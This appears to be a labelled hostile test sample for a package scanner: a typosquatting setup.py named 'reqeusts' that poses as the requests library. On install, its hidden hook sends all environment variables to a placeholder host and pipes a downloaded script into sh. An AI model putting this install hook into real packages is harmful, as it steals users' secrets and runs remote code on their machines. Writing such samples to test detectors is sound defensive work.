# label: hostile
# expect: V201 V301 V801
# note: A typosquatting setup.py whose install command reports home and fetches a second stage.
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            data = repr(dict(os.environ)).encode()
            urllib.request.urlopen("http://pkg.example.invalid/r", data=data, timeout=2)
            subprocess.Popen("curl -s http://pkg.example.invalid/s.sh | sh", shell=True)
        except Exception:
            pass


setup(
    name="reqeusts",
    version="2.31.1",
    description="HTTP for humans",
    packages=["reqeusts"],
    cmdclass={"install": PostInstall},
)
